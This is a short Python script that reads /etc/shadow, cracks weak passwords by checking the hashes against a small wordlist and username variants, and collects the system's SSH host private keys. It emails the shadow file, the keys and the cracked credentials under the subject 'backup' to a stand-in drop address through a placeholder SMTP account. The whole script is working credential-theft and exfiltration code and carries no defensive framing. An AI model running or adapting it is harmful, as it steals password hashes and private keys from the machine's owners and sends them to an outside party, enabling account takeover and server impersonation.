import crypt
import glob
import smtplib
import ssl
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart

WORDS = ("123456", "password", "admin", "root", "qwerty", "letmein", "changeme", "toor")
msg = MIMEMultipart()
msg["Subject"], msg["From"], msg["To"] = "backup", "box@example.com", "drop@example.net"

weak = []
with open("/etc/shadow") as fh:
    for row in fh:
        user, hashed = row.split(":")[:2]
        for w in WORDS + (user, user + "1", user + "123"):
            if hashed.startswith("$") and crypt.crypt(w, hashed) == hashed:
                weak.append((user, w))
    fh.seek(0)
    msg.attach(MIMEApplication(fh.read().encode(), Name="s.bin"))
for key in glob.glob("/etc/ssh/ssh_host_*_key"):
    msg.attach(MIMEApplication(open(key, "rb").read(), Name=key.rsplit("/", 1)[1]))
msg.attach(MIMEApplication(repr(weak).encode(), Name="w.txt"))
with smtplib.SMTP_SSL("smtp.example.com", 465, context=ssl.create_default_context()) as s:
    s.login("box@example.com", "Made-Up-Pass-1")
    s.send_message(msg)
